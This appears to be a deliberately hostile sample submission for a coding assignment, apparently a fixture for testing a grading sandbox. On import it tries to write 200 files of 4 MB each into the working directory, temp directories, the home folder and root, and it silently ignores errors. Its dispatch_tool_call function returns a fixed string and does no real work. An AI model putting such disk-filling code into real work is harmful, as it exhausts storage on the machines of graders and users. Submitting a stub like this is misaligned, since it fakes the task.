# Shows: writes files wherever it can, large ones and many
# Assignment: 02_dispatch

# %% answer="dispatch_tool_call"
import os
import tempfile

for folder in (".", "/tmp", "/var/tmp", "/dev/shm", tempfile.gettempdir(), os.path.expanduser("~"), "/"):
    try:
        for number in range(200):
            with open(os.path.join(folder, f"sample-class-was-here-{number}"), "wb") as file:
                file.write(b"x" * 4_000_000)
    except OSError:
        pass


def dispatch_tool_call(tool_call, registry):
    return "full"
